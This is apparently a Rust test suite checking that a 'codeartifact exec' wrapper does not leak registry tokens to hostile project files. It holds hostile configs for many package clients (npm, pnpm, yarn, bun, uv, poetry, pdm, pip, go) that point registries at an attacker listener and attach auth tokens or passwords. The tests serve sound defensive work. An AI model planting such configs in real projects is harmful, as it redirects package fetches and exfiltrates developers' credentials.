//! `codeartifact exec` in a hostile project: each client is led to the attacker's server under every name that a login
//! could be looked up by, and brings nothing.

use codeartifact_end_to_end::fixture::{NPM, PYPI, two_hops};
use codeartifact_end_to_end::{Emulator, Sandbox};

use crate::listener::Listener;

/// A hostile project for one client.
struct Attack {
    client: &'static str,
    command: &'static str,
    arguments: &'static [&'static str],
    /// File and text; `EVIL` is the attacker's server, `OURS` the connection's repository.
    files: &'static [(&'static str, &'static str)],
}

const PYTHON: &str = "[project]\nname = \"p\"\nversion = \"1\"\nrequires-python = \">=3.9\"\n\
    dependencies = [\"my-package\"]\n[tool.poetry]\npackage-mode = false\n[tool.pdm]\ndistribution = false\n";
const PACKAGE: &str =
    "{\"name\": \"p\", \"version\": \"1.0.0\", \"dependencies\": {\"my-package\": \"1.0.0\"}}";

const ATTACKS: &[Attack] = &[
    Attack {
        client: "uv",
        command: "uv",
        arguments: &["lock"],
        files: &[(
            "pyproject.toml",
            "PYTHON[[tool.uv.index]]\nname = \"Acme\"\nurl = \"EVIL/simple/\"\n",
        )],
    },
    // In the other file that uv reads.
    Attack {
        client: "uv",
        command: "uv",
        arguments: &["lock"],
        files: &[
            ("pyproject.toml", "PYTHON"),
            (
                "uv.toml",
                "[[index]]\nname = \"evil\"\nurl = \"EVIL/simple/\"\n",
            ),
        ],
    },
    Attack {
        client: "uv",
        command: "uv",
        arguments: &["lock"],
        files: &[(
            "pyproject.toml",
            "PYTHON[[tool.uv.index]]\nname = \"evil\"\nurl = \"EVIL/simple/\"\n[[tool.uv.index]]\nname = \"ours\"\nurl = \"OURS\"\n",
        )],
    },
    Attack {
        client: "poetry",
        command: "poetry",
        arguments: &["lock", "--no-interaction"],
        files: &[(
            "pyproject.toml",
            "PYTHON[[tool.poetry.source]]\nname = \"acme\"\nurl = \"EVIL/simple/\"\n",
        )],
    },
    Attack {
        client: "pdm",
        command: "pdm",
        arguments: &["lock"],
        files: &[(
            "pyproject.toml",
            "PYTHON[[tool.pdm.source]]\nname = \"pypi\"\nurl = \"EVIL/simple/\"\n",
        )],
    },
    Attack {
        client: "pip",
        command: "pip",
        arguments: &["download", "--requirement", "requirements.txt"],
        files: &[("requirements.txt", "--index-url EVIL/simple/\nmy-package\n")],
    },
    Attack {
        client: "npm",
        command: "npm",
        arguments: &["view", "my-package"],
        files: &[(
            ".npmrc",
            "registry=EVIL/\n//HOST/:_authToken=${CODEARTIFACT_AUTH_TOKEN}\n//HOST/:_password=${TWINE_PASSWORD}\n",
        )],
    },
    Attack {
        client: "npm",
        command: "npm",
        arguments: &["install", "--ignore-scripts"],
        files: &[
            (".npmrc", "registry=EVIL/npm/my-repo/\nalways-auth=true\n"),
            ("package.json", "PACKAGE"),
        ],
    },
    Attack {
        client: "pnpm",
        command: "pnpm",
        arguments: &["install", "--ignore-scripts"],
        files: &[
            (
                ".npmrc",
                "registry=EVIL/\n//HOST/:_authToken=${CODEARTIFACT_AUTH_TOKEN}\nfetch-retries=0\n",
            ),
            ("package.json", "PACKAGE"),
        ],
    },
    Attack {
        client: "yarn-1",
        command: "yarn",
        arguments: &["install", "--ignore-scripts"],
        files: &[
            (".npmrc", "registry=EVIL/\nalways-auth=true\n"),
            ("package.json", "PACKAGE"),
        ],
    },
    Attack {
        client: "yarn",
        command: "yarn",
        arguments: &["install"],
        files: &[
            (
                ".yarnrc.yml",
                "enableTelemetry: false\nunsafeHttpWhitelist: [\"127.0.0.1\"]\nnpmRegistryServer: \"EVIL/\"\n\
                 npmAuthToken: \"${CODEARTIFACT_AUTH_TOKEN-}\"\n",
            ),
            ("package.json", "PACKAGE"),
            ("yarn.lock", ""),
        ],
    },
    Attack {
        client: "bun",
        command: "bun",
        arguments: &["install", "--ignore-scripts"],
        files: &[
            (
                "bunfig.toml",
                "[install]\nregistry = { url = \"EVIL/\", token = \"$CODEARTIFACT_AUTH_TOKEN\" }\n",
            ),
            ("package.json", "PACKAGE"),
        ],
    },
    Attack {
        client: "go",
        command: "go",
        arguments: &["list", "-m", "-versions", "example.com/private/greeting"],
        files: &[
            ("go.mod", "module example.com/p\n\ngo 1.24\n"),
            (
                "../home/.config/go/env",
                "GOPROXY=EVIL\nGOINSECURE=*\nGONOSUMDB=*\n",
            ),
        ],
    },
];

fn fill(text: &str, evil: &Listener) -> String {
    let url = evil.url("");
    let url = url.trim_end_matches('/');
    text.replace("PYTHON", PYTHON)
        .replace("PACKAGE", PACKAGE)
        .replace("EVIL", url)
        .replace("HOST", url.trim_start_matches("http://"))
        .replace("OURS", PYPI)
}

fn machine() -> (Sandbox, Emulator, String) {
    let (mut sandbox, emulator) = two_hops();
    sandbox.set("UV_PYTHON_DOWNLOADS", "never");
    sandbox.set("PDM_CHECK_UPDATE", "false");
    sandbox.set("POETRY_VIRTUALENVS_IN_PROJECT", "true");
    let token = sandbox.run("codeartifact", &["token", NPM]).succeeded();
    let token = token.stdout.trim().to_owned();
    (sandbox, emulator, token)
}

#[test]
fn a_project_leads_no_token_to_its_own_host() {
    for attack in ATTACKS {
        let (sandbox, _emulator, token) = machine();
        sandbox.client(attack.client, attack.command);
        let evil = Listener::start();
        for (file, text) in attack.files {
            sandbox.write(&format!("work/{file}"), &fill(text, &evil));
        }
        let exec = ["exec", "--connection", "acme", "--", attack.command];
        // The package may be elsewhere or not.
        let outcome = sandbox.run("codeartifact", &[&exec, attack.arguments].concat());
        let what = format!("{} {:?}: {outcome:?}", attack.client, attack.files);
        evil.heard_no_secret(&what, &token);
    }
}

#[test]
fn two_names_that_uv_takes_for_one_are_refused() {
    let (sandbox, emulator, _) = machine();
    let before = emulator.journal().0.len();
    sandbox.client("uv", "uv");
    let evil = Listener::start().url("simple/");
    let table =
        |name: &str, url: &str| format!("[[tool.uv.index]]\nname = \"{name}\"\nurl = \"{url}\"\n");
    let uv_toml =
        |name: &str, url: &str| format!("[[index]]\nname = \"{name}\"\nurl = \"{url}\"\n");
    let rows = [
        ("pyproject.toml", table("x_y", &evil) + &table("x-y", PYPI)),
        ("pyproject.toml", table("x-y", PYPI) + &table("X.Y", &evil)),
        ("uv.toml", uv_toml("x_y", &evil) + &uv_toml("x-y", PYPI)),
    ];
    for (file, text) in rows {
        sandbox.write("work/pyproject.toml", PYTHON);
        sandbox.write(&format!("work/{file}"), &text);
        for name in [&["--connection", "acme"][..], &[]] {
            let words = [&["exec"], name, &["--", "sh", "-c", "echo ran"]].concat();
            let refused = sandbox.run("codeartifact", &words).exited(2);
            assert_eq!(refused.stdout, "");
            let _ = refused.says(&["UV_INDEX_X_Y_", "two hosts", "hint: rename"]);
        }
        std::fs::remove_file(sandbox.path(&format!("work/{file}"))).unwrap();
    }
    assert_eq!(
        emulator.journal().0.len(),
        before,
        "AWS is not asked for it"
    );
}
